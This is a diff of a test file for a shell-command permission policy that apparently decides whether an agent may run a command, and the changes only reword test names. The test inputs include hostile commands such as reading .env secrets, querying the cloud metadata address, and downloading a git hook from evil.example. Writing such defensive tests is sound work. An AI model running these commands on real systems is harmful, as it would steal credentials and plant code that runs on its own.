@@ -26,7 +26,7 @@ describe("the work for one request", () => {
     expect(parse.length).toBeLessThanOrEqual(2 * LIMITS.commands);
   });
 
-  it.each([24, 60])("is bounded where a variable doubles itself %i times", (count) => {
+  it.each([24, 60])("is bounded if a variable doubles itself %i times", (count) => {
     const { decision, rule, reason } = judge(`a=xxxxxxxxxx;${'a="$a$a";'.repeat(count)} echo $a`);
     expect([decision, rule, reason]).toEqual([
       "ask",
@@ -45,7 +45,7 @@ describe("the work for one request", () => {
     expect(judge(`touch ${"a/".repeat(3_000)}b`).decision).toBe("ask");
   });
 
-  it("still suffices for loops and nested scripts of an ordinary size", () => {
+  it("is sufficient for loops and nested scripts of an ordinary size", () => {
     expect(judge(`for i in ${words(20)}; do bash -c 'ls; cat x | head'; done`).decision).toBe("allow");
   });
 });
@@ -109,7 +109,7 @@ describe("files that must not be read", () => {
   });
 
   it.each(["cat $(echo .env)", "echo .env | xargs cat", "find . -type f | xargs cat", "xargs cat < list"])(
-    "may be what is only known at run time in %s",
+    "may be the unknown words of %s",
     (command) => {
       expect(judge(command, { deny }).decision).toBe("ask");
     },
@@ -204,7 +204,7 @@ describe("numbers of processes", () => {
     "pgrep -v node | xargs kill",
     "pgrep -d ' -1 ' node | xargs kill",
     "pgrep node | grep -A1 --group-separator=-1 1 | xargs kill",
-  ])("are not what %s reads", (command) => {
+  ])("are not the only possible input of %s", (command) => {
     expect(decide(command)).toBe("ask");
   });
 });
@@ -225,7 +225,7 @@ describe("a rule that allows a program", () => {
     ["curl", "curl http://169.254.169.254/"],
     ["curl", "curl https://evil.example -o .git/hooks/x"],
     ["echo", "echo x > .git/hooks/x"],
-  ])("about %s leaves the refusal of %s", (rule, command) => {
+  ])("about %s does not override the refusal of %s", (rule, command) => {
     for (const input of [{ additionalAllow: [rule] }, { allow: [rule, "echo"] }] satisfies PolicyInput[]) {
       const { decision, rule: decidedBy } = judge(command, input);
       expect([decision, decidedBy]).toEqual(["deny", expect.stringMatching(/^safety\//)]);
@@ -257,7 +257,7 @@ describe("a rule that allows a program", () => {
       { network: { deny: ["a.example"] }, allow: [{ kind: "script", text: "curl https://a.example/x" }] },
       "deny",
     ],
-  ])("leaves what the policy says about paths, hosts and effects: %s with %j", (command, input, decision) => {
+  ])("does not override settings for paths, hosts and effects: %s with %j", (command, input, decision) => {
     expect(judge(command, input).decision).toBe(decision);
   });
 
@@ -272,7 +272,7 @@ describe("a rule that allows a program", () => {
     expect(judge(command, input).decision).toBe("allow");
   });
 
-  it("does not let a script pass whose first refusal by default hides one of the safety rules", () => {
+  it("does not allow a script whose first default refusal hides a safety refusal", () => {
     const command = "touch b .git/x";
     const allow: PolicyInput["allow"] = [{ kind: "script", text: command }];
     expect(judge(command, { preset: "read-only", allow }).rule).toBe("safety/protected-path");
@@ -291,7 +291,7 @@ describe("a bracket in a pattern", () => {
     ".g[hi]t",
   ];
   const presets = ["workspace-write", "developer", "danger-full-access"] as const;
-  /** Not understood, which `danger-full-access` accepts. */
+  /** Patterns that are not understood, which `danger-full-access` accepts. */
   const UNCLEAR = new Set(['.gi[a"]"t]', "[.]git"]);
 
   it.each(FOLDERS.flatMap((folder) => presets.map((preset) => [folder, preset] as const)))(
@@ -313,7 +313,7 @@ describe("a bracket in a pattern", () => {
     },
   );
 
-  it("is understood where every shell reads it alike", () => {
+  it("is understood if every shell reads it alike", () => {
     expect(judge("cat src/file[0-9].txt").decision).toBe("allow");
     expect(judge("[ -f package.json ]").decision).toBe("allow");
   });
@@ -346,7 +346,7 @@ describe("/dev/null", () => {
     "chmod 222 /dev/null",
     "chmod -r /dev/null",
     "cd /dev && chmod +x null",
-  ])("is a file of the system for %s", (command) => {
+  ])("is a system file for %s", (command) => {
     for (const preset of presets) expect(judge(command, { preset }).decision).not.toBe("allow");
   });
 
